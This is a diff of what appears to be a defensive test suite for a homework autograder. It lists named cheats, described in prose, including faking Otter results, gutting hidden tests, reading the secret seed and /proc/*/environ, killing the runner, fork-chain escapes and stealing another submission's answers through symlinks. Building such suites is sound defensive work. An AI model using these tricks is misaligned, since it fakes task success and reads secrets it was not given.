 def _cheat(name, why, control, answers=None, cells=(), flagged=False, undetectable_on=(), long=False, waits=False):
     base = STUBS if control == "stubs" else PARTIAL
-    return Cheat(name, _src(why).strip(), control, _writer({**base, **(answers or {})}, cells), flagged, undetectable_on,
-                 long, waits)
+    return Cheat(
+        name,
+        _src(why).strip(),
+        control,
+        _writer({**base, **(answers or {})}, cells),
+        flagged,
+        undetectable_on,
+        long,
+        waits,
+    )
 
 
 CHEATS: list[Cheat] = [
     # 1. Otter's internals
-    _cheat("otter_all_pass", """
+    _cheat(
+        "otter_all_pass",
+        """
         Patches every TestFile.run (and Checker.check) so that every Otter test case passes after it has run.""",
-        "stubs", cells=[early(OTTER_ALL_PASS.replace("@MULTIPLIER@", "1"))]),
-    _cheat("otter_points_x10", """
+        "stubs",
+        cells=[early(OTTER_ALL_PASS.replace("@MULTIPLIER@", "1"))],
+    ),
+    _cheat(
+        "otter_points_x10",
+        """
         The same patch, with every test case's points and Otter's GradingResults.total multiplied by 10.""",
-        "stubs", cells=[early(OTTER_ALL_PASS.replace("@MULTIPLIER@", "10"))]),
+        "stubs",
+        cells=[early(OTTER_ALL_PASS.replace("@MULTIPLIER@", "10"))],
+    ),
     # 2. the results that Otter's runner unpickles
-    _cheat("otter_results_pickle", """
+    _cheat(
+        "otter_results_pickle",
+        """
         Patches pickle.dump so that the GradingResults Otter's last cell pickles into its temp .pkl say
         'passed', keeps overwriting every such .pkl and every guessable results.json from a thread.""",
-        "stubs", cells=[early(OTTER_PICKLE)]),
+        "stubs",
+        cells=[early(OTTER_PICKLE)],
+    ),
     # 3. a detached process after the runner
-    _cheat("detached_results_rewriter", """
+    _cheat(
+        "detached_results_rewriter",
+        """
         Double-forks a process in its own session (stdio closed, not dumpable, renamed) that rewrites
         /autograder/results/results.json, the emulation's OUT/autograder/results/results.json (found from the
         root processes' /proc/*/cmdline) and OUT/results.json every 0.1 s for 15 minutes.""",
-        "stubs", cells=[at_end(DETACHED_REWRITER)]),
+        "stubs",
+        cells=[at_end(DETACHED_REWRITER)],
+    ),
     # 4. the hidden tests on disk
-    _cheat("hidden_tests_to_pass", """
+    _cheat(
+        "hidden_tests_to_pass",
+        """
         Rewrites every tests/*.py in the sandbox (and the source's) so that every test body is `pass`.""",
-        "stubs", cells=[early(TESTS_TO_PASS)]),
+        "stubs",
+        cells=[early(TESTS_TO_PASS)],
+    ),
     # 5. fake support modules and forged hand-over files
-    _cheat("fake_probes_in_sys_modules", """
+    _cheat(
+        "fake_probes_in_sys_modules",
+        """
         Plants hw1_probes, hw1_grading and hw1_trusted(.checks/.verdict) in sys.modules; the fake probe hands
         over {"passed": true, "score": 100} for every question.""",
-        "stubs", cells=[early(FAKE_PROBES_MODULE)]),
-    _cheat("overwrite_probes_file", """
+        "stubs",
+        cells=[early(FAKE_PROBES_MODULE)],
+    ),
+    _cheat(
+        "overwrite_probes_file",
+        """
         Finds hw1_probes.py with os.walk and overwrites it, and writes packages hw1_probes/, hw1_grading/,
         hw1_trusted/ beside it, all with a probe that reports success.""",
-        "stubs", cells=[early(OVERWRITE_PROBES_FILE)]),
-    _cheat("forged_handover_files", """
+        "stubs",
+        cells=[early(OVERWRITE_PROBES_FILE)],
+    ),
+    _cheat(
+        "forged_handover_files",
+        """
         After every probe has run, replaces hand-over files by symlinks to the grader's files and inputs, an
         npz holding a pickle, @array references to other files, a FIFO, hard links, JSON nested 100,000 deep
         or holding NaN/Infinity, an npz that is a zip of non-arrays, and progress.json as a symlink to the seed.""",
-        "partial", cells=[at_end(FORGED_HANDOVER_FILES)]),
-    _cheat("huge_handover_files", """
+        "partial",
+        cells=[at_end(FORGED_HANDOVER_FILES)],
+    ),
+    _cheat(
+        "huge_handover_files",
+        """
         Exhausts the hand-over folder: a sparse 100 GB q5_4.json and 5,000 small .json files.""",
-        "stubs", cells=[at_end(HUGE_HANDOVER)]),
-    _cheat("nan_init_params", """
+        "stubs",
+        cells=[at_end(HUGE_HANDOVER)],
+    ),
+    _cheat(
+        "nan_init_params",
+        """
         init_params returns NaN weights (zero biases): q5_1's mean and variance check compares
         abs(w.var() - s2) > bound, and every comparison with NaN is False.""",
-        "stubs", answers={"init_params": NAN_INIT}),
-    _cheat("forged_q4_probs_outputs", """
+        "stubs",
+        answers={"init_params": NAN_INIT},
+    ),
+    _cheat(
+        "forged_q4_probs_outputs",
+        """
         Patches hw1_probes._model_outputs in the kernel to return zeros, so that uniform sample_probs (computed
         from no model at all) are 'the softmax of the model's outputs'.""",
-        "stubs", cells=[before_check("q4_probs", FORGED_Q4_PROBS)]),
+        "stubs",
+        cells=[before_check("q4_probs", FORGED_Q4_PROBS)],
+    ),
     # 6. patched library functions
-    _cheat("patched_numpy_comparisons", """
+    _cheat(
+        "patched_numpy_comparisons",
+        """
         np.isclose/allclose/array_equal, torch.allclose/equal always agree; builtins abs returns 0, any False.""",
-        "stubs", cells=[early(PATCHED_NUMPY)]),
-    _cheat("patched_rng_loss_json", """
+        "stubs",
+        cells=[early(PATCHED_NUMPY)],
+    ),
+    _cheat(
+        "patched_rng_loss_json",
+        """
         np.random.default_rng draws only zeros, F.cross_entropy and CrossEntropyLoss return 0, json.dump drops
         every @error/@missing/@probe_error marker from what the probes write.""",
-        "stubs", cells=[early(PATCHED_RNG_LOSS_JSON)]),
+        "stubs",
+        cells=[early(PATCHED_RNG_LOSS_JSON)],
+    ),
     # 7. forged data
-    _cheat("fake_data_dir", """
+    _cheat(
+        "fake_data_dir",
+        """
         Points HW1_DATA_DIR at a planted FashionMNIST whose images are blank and labels all 0 (tries to
         overwrite the grader's copy too) and makes the model always answer class 0.""",
-        "partial", cells=[early(FAKE_DATA_DIR), before_check("q4_acc", ALWAYS_CLASS_0)]),
-    _cheat("patched_torchvision", """
+        "partial",
+        cells=[early(FAKE_DATA_DIR), before_check("q4_acc", ALWAYS_CLASS_0)],
+    ),
+    _cheat(
+        "patched_torchvision",
+        """
         Monkeypatches torchvision.datasets.FashionMNIST so that the test labels the notebook sees are all 0,
         and makes the model always answer class 0.""",
-        "partial", cells=[early(PATCHED_TORCHVISION), before_check("q4_acc", ALWAYS_CLASS_0)]),
+        "partial",
+        cells=[early(PATCHED_TORCHVISION), before_check("q4_acc", ALWAYS_CLASS_0)],
+    ),
     # 8. models that fake accuracy
-    _cheat("always_equal_outputs", """
+    _cheat(
+        "always_equal_outputs",
+        """
         The model's outputs are a tensor subclass whose __eq__ is all True, so `pred == labels` is always right.""",
-        "partial", cells=[before_check("q4_acc", ALWAYS_EQUAL)]),
-    _cheat("lookup_table_model", """
+        "partial",
+        cells=[before_check("q4_acc", ALWAYS_EQUAL)],
+    ),
+    _cheat(
+        "lookup_table_model",
+        """
         Wraps the trained model in a lookup table from every test image to its label.""",
-        "partial", cells=[before_check("q4_acc", LOOKUP_MODEL)]),
-    _cheat("smuggled_weights", """
+        "partial",
+        cells=[before_check("q4_acc", LOOKUP_MODEL)],
+    ),
+    _cheat(
+        "smuggled_weights",
+        """
         The Linear layers that the grader reads are decoys; a Conv2d + Bilinear network (not Linear) does the
         work and is what is trained.""",
-        "partial", answers={"FashionMLP": SMUGGLED_WEIGHTS_MLP}),
+        "partial",
+        answers={"FashionMLP": SMUGGLED_WEIGHTS_MLP},
+    ),
     # 9. typed-in loss histories
-    _cheat("typed_loss_history", """
+    _cheat(
+        "typed_loss_history",
+        """
         No working train_epoch; train_losses and test_losses are typed in.""",
-        "stubs", cells=[before_check("q4_train", TYPED_LOSSES)]),
+        "stubs",
+        cells=[before_check("q4_train", TYPED_LOSSES)],
+    ),
     # 10. Problem 5 without backprop
-    _cheat("p5_torch_fit_to_test_set", """
+    _cheat(
+        "p5_torch_fit_to_test_set",
+        """
         backprop stays broken; weights and biases are fitted to the MNIST test set with torch (Adam).""",
-        "partial", cells=[before_check("q5_4", TORCH_TEST_FIT)]),
-    _cheat("p5_least_squares_on_test_set", """
+        "partial",
+        cells=[before_check("q5_4", TORCH_TEST_FIT)],
+    ),
+    _cheat(
+        "p5_least_squares_on_test_set",
+        """
         backprop stays broken; the output layer is solved by least squares on the MNIST test set.""",
-        "partial", cells=[before_check("q5_4", LSTSQ_TEST_FIT)]),
-    _cheat("p5_torch_trajectory", """
+        "partial",
+        cells=[before_check("q5_4", LSTSQ_TEST_FIT)],
+    ),
+    _cheat(
+        "p5_torch_trajectory",
+        """
         backprop stays broken (q5_3 fails), but train_one_epoch does per-sample SGD with torch autograd instead
         of calling train_one_sample, so q5_4's trajectory replay, and with it the accuracy check, pass.""",
-        "partial", answers={"train_one_epoch": p5_loop(10000, TORCH_TRAJECTORY)}),
-    _cheat("p5_autograd_update", """
+        "partial",
+        answers={"train_one_epoch": p5_loop(10000, TORCH_TRAJECTORY)},
+    ),
+    _cheat(
+        "p5_autograd_update",
+        """
         backprop stays broken, but train_one_sample steps with torch autograd's gradients, so that its own
         training (which q5_4 now counts) learns as a correct one would; train_one_epoch calls train_one_sample.""",
-        "partial", answers={"backprop_one": AUTOGRAD_UPDATE_BACKPROP}),
-    _cheat("p5_stand_in_aware_training", """
+        "partial",
+        answers={"backprop_one": AUTOGRAD_UPDATE_BACKPROP},
+    ),
+    _cheat(
+        "p5_stand_in_aware_training",
+        """
         backprop_one returns zeros and train_one_sample does nothing; train_one_epoch calls train_one_sample when
         it is the grader's stand-in (not a plain function) and trains with torch autograd otherwise.""",
-        "stubs", answers={"train_one_epoch": p5_loop(10000, STAND_IN_AWARE)}),
-    _cheat("p5_weights_trained_elsewhere", """
+        "stubs",
+        answers={"train_one_epoch": p5_loop(10000, STAND_IN_AWARE)},
+    ),
+    _cheat(
+        "p5_weights_trained_elsewhere",
+        """
         backprop_one returns zeros and train_one_sample does nothing, so that its update and train_one_epoch are
         'consistent'; the weights are fitted to 20,000 training images with torch (Adam) before q5_4's check.""",
-        "stubs", cells=[before_check("q5_4", TORCH_TRAIN_FIT)]),
-    _cheat("forged_q4_probs_log_outputs", """
+        "stubs",
+        cells=[before_check("q5_4", TORCH_TRAIN_FIT)],
+    ),
+    _cheat(
+        "forged_q4_probs_log_outputs",
+        """
         Uniform sample_probs, and hw1_probes._model_outputs patched to return their log, so that the probs are
         'the softmax of the model's outputs' as the probe hands them over.""",
-        "stubs", cells=[before_check("q4_probs", FORGED_Q4_PROBS_LOG)]),
-    _cheat("probe_input_inference", """
+        "stubs",
+        cells=[before_check("q4_probs", FORGED_Q4_PROBS_LOG)],
+    ),
+    _cheat(
+        "probe_input_inference",
+        """
         Reads $HW1_PROBE_INPUTS: relu_net and grad_f answer from the grader's own table of f and grad f that
         q3b's inputs hold (nearest x); init_params returns q5_4's grader-drawn start weights.""",
-        "stubs", answers=PROBE_INPUT_INFERENCE),
+        "stubs",
+        answers=PROBE_INPUT_INFERENCE,
+    ),
     # 11. reading secrets
-    _cheat("read_secrets", """
+    _cheat(
+        "read_secrets",
+        """
         Reads the hidden checks, the reference, the secret seed, submission_metadata.json at /autograder and at
         the emulation's path (from root processes' /proc/*/cmdline), /proc/*/environ and /tmp/hw1-trusted-*;
         prints them, answers q2b from checks.py if it could read it, and puts them in progress.json (whose
         text the grading notes quote) before killing the runner.""",
-        "stubs", cells=[at_end(READ_SECRETS)]),
+        "stubs",
+        cells=[at_end(READ_SECRETS)],
+    ),
     # 12. training on the test set: cannot be prevented, must be flagged
-    _cheat("train_on_test_set", """
+    _cheat(
+        "train_on_test_set",
+        """
         Problem 4's model is trained on the test set (12 epochs of Adam).""",
-        "partial", answers={"train_epoch": p4_training(TEST_SET_LOADER, 12, ADAM)}, flagged=True, long=True),
-    _cheat("train_on_test_set_and_train_head", """
+        "partial",
+        answers={"train_epoch": p4_training(TEST_SET_LOADER, 12, ADAM)},
+        flagged=True,
+        long=True,
+    ),
+    _cheat(
+        "train_on_test_set_and_train_head",
+        """
         Problem 4's model is trained on the test set together with trainingdata[:10000], the images the grader
         compares the test accuracy with, so that the two accuracies stay close (8 epochs of Adam). The grader now
         compares with a secret random sample of the training set, and still cannot tell this model from an
         honest one: a documented limit, which may gain on q4_acc only.""",
-        "partial", answers={"train_epoch": p4_training(TEST_AND_TRAIN_HEAD_LOADER, 8, ADAM)}, undetectable_on=("q4_acc",), long=True),
+        "partial",
+        answers={"train_epoch": p4_training(TEST_AND_TRAIN_HEAD_LOADER, 8, ADAM)},
+        undetectable_on=("q4_acc",),
+        long=True,
+    ),
     # other attacks
-    _cheat("kill_runner_forge_notes", """
+    _cheat(
+        "kill_runner_forge_notes",
+        """
         After every probe, writes a progress.json whose text (quoted in the grading notes the student sees)
         claims full marks, then SIGKILLs the runner (the kernel's parent) so that it cannot rewrite it.""",
-        "stubs", cells=[at_end(KILL_RUNNER_FORGE_NOTES)]),
-    _cheat("never_ending_kernel", """
+        "stubs",
+        cells=[at_end(KILL_RUNNER_FORGE_NOTES)],
+    ),
+    _cheat(
+        "never_ending_kernel",
+        """
         After every probe, the kernel ignores SIGINT/SIGTERM and never ends: the phase time limit must stop it.""",
-        "stubs", cells=[at_end(NEVER_ENDING)], waits=True),
-    _cheat("fork_chain_escape", """
+        "stubs",
+        cells=[at_end(NEVER_ENDING)],
+        waits=True,
+    ),
+    _cheat(
+        "fork_chain_escape",
+        """
         A detached chain of processes that fork and exit at once (a new pid every few hundred microseconds), so
         that kill_all's listing of /proc never catches one alive; once the runner has ended it leaves
         /tmp/hw1cheat-survived-* and hands over q2b's answer (which the notebook never did). Ends after 60 s.""",
-        "stubs", cells=[at_end(FORK_CHAIN_CELL)], long=True),
-    _cheat("tmp_planting", """
+        "stubs",
+        cells=[at_end(FORK_CHAIN_CELL)],
+        long=True,
+    ),
+    _cheat(
+        "tmp_planting",
+        """
         Plants sitecustomize/usercustomize/dill/hw1_grading modules, a hw1_trusted package and a .pth file in
         /tmp, /dev/shm and /var/tmp, which forge results.json if a root process ever imports them (each
         import leaves /tmp/hw1cheat-imported-NAME-uidN).""",
-        "stubs", cells=[early(TMP_PLANTING)]),
-    _cheat("steal_other_grading", """
+        "stubs",
+        cells=[early(TMP_PLANTING)],
+    ),
+    _cheat(
+        "steal_other_grading",
+        """
         Makes the hand-over folder (whose parent the student owns) a symlink to another grading's root-only
         /tmp/hw1-trusted-*/answers, so that root copies that submission's answers as this one's. Needs another
         grading on the machine; alone, it changes nothing.""",
-        "stubs", cells=[at_end(STEAL_OTHER_GRADING)]),
-    Cheat("zip_with_planted_files", _src("""
+        "stubs",
+        cells=[at_end(STEAL_OTHER_GRADING)],
+    ),
+    Cheat(
+        "zip_with_planted_files",
+        _src("""
         Uploads Otter's export zip with the notebook plus a fake hw1_probes.py, tests/*.py without tests,
         an otter_config.json, files/hw1_trusted/checks.py and a ../results/results.json entry.""").strip(),
-        "stubs", _zip_with_plants),
-    Cheat("folder_with_planted_files", _src("""
+        "stubs",
+        _zip_with_plants,
+    ),
+    Cheat(
+        "folder_with_planted_files",
+        _src("""
         The same as an extracted upload: hw1.ipynb beside hw1_probes.py, tests/, otter_config.json, a
         run_autograder, results/results.json, files/hw1_trusted/checks.py and a secret_seed of its own.
         (Symlinks are left out: tools/gradescope.py copies a folder upload following its links.)""").strip(),
-        "stubs", _folder_with_plants),
+        "stubs",
+        _folder_with_plants,
+    ),
 ]
 
 # What to look at after grading, beyond the scores (a test can check these too)
@@ -1637,8 +1842,9 @@ SIDE_EFFECTS = {
     "read_secrets": "the secret seed is nowhere in results.json",
     "kill_runner_forge_notes": "the student-visible text does not carry the forged claim",
     "steal_other_grading": "graded right after a victim graded with HW1_KEEP_WORK=1 (its root-only work folder left "
-                           "in /tmp), it must still score no more than its control",
+    "in /tmp), it must still score no more than its control",
 }
+
 
 def write_all(folder):
     folder = pathlib.Path(folder)
